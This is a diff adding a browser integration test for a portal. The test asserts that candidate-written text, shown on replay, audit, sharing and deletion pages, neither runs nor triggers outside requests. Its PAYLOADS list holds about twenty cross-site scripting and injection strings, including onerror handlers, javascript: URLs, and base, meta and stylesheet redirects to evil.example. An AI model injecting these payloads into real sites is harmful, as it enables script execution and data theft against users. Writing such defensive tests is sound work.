@@ -1,0 +1,98 @@
+"""Candidate-controlled text in a real browser: nothing of it may run, and the policy must have nothing to block."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+
+from protocol.attempts import TrackKind
+from protocol.facts import RecorderEvent, RecorderFact
+from tests.integration.portal import work as working
+from tests.integration.portal.conftest import Visitor
+from tests.integration.portal.device import Device
+from tests.integration.portal.server import OFFICER, Running
+from tests.integration.portal.test_sharing_links import make_link
+from tests.integration.portal.work import Worked, work
+
+pytestmark = pytest.mark.browser
+Visit = Callable[..., Visitor]
+RUN = "window.pwned=1;alert(1)"
+PAYLOADS = [
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"'\"><img src=x onerror={RUN}>",
+    f"\" autofocus onfocus={RUN} x=\"",
+    f"' onmouseover='{RUN}",
+    f"<details open ontoggle={RUN}>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
+    f"javascript:{RUN}",
+    f"<a href='javascript:{RUN}'>x</a>",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    f"<template><script>{RUN}</script></template>",
+    "{{ 7 * 7 }}{% raw %}${7*7}",
+    "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><button id=main autofocus>",
+    f"--></textarea></title></noscript><img src=x onerror={RUN}>",
+    "\u202egnp.exe\u2066\u200b\u0007<b>\u2069",
+]
+
+
+def hostile_work(backend: Running, monkeypatch: pytest.MonkeyPatch, payload: str) -> Worked:
+    """The payload as name, in code, in a device's name and in a recorder's reason."""
+    original = working._solve_second
+
+    def solve(device: Device, problem: str) -> None:
+        reason = RecorderFact(
+            stream=TrackKind.CAMERA, event=RecorderEvent.FAILED, device=payload[:200], reason=payload[:500], lost_us=5
+        )
+        device.submit_facts(reason)
+        original(device, problem)
+
+    monkeypatch.setattr(working, "_solve_second", solve)
+    return work(backend, payload[:150], media=False, source=f"x = '''{payload}'''\n{payload}\n# {payload}\n")
+
+
+def test_nothing_runs_anywhere(visit: Visit, backend: Running, monkeypatch: pytest.MonkeyPatch) -> None:
+    member, officer, candidate, guest = visit(), visit(), visit(), visit()
+    outside: list[str] = []
+    for visitor in (member, officer, candidate, guest):
+        visitor.page.on(
+            "request", lambda request: outside.append(request.url) if backend.url not in request.url else None
+        )
+    member.sign_in()
+    officer.sign_in(OFFICER)
+    for payload in PAYLOADS:
+        worked = hostile_work(backend, monkeypatch, payload)
+        look_everywhere((member, officer, candidate, guest), worked, payload)
+        for visitor in (member, officer, candidate, guest):
+            assert visitor.page.evaluate("window.pwned === undefined"), payload
+            assert visitor.trouble == [], payload
+    assert outside == []
+
+
+def look_everywhere(visitors: tuple[Visitor, Visitor, Visitor, Visitor], worked: Worked, payload: str) -> None:
+    """Open every page that shows what the candidate wrote."""
+    member, officer, candidate, guest = visitors
+    page = member.open_replay(f"/portal/attempts/{worked.device.joined.attempt}")
+    page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
+    page.evaluate("document.querySelector('[data-island=replay]').island.seek(1e6)")
+    for lines in ("#code .code-line", "#replay .code-line"):
+        page.evaluate("document.querySelector('[data-island=replay]').island.seek(17)")
+        shown = page.evaluate(
+            "lines => [...document.querySelectorAll(lines)].map(each => each.textContent).join('\\n')", lines
+        )
+        assert payload in shown, lines
+    guest.open_replay(make_link(member, worked, recipient=payload[:190]))
+    member.open("/portal/attempts")
+    member.open("/portal/audit")
+    candidate.open(worked.page_url + "/deletion")
+    candidate.page.check("[name=understood]")
+    candidate.page.fill("#words", payload)
+    candidate.page.get_by_role("button", name="Ask for deletion").click()
+    officer.open("/portal/privacy").locator("a.row-link").first.click()
+    officer.page.wait_for_load_state()
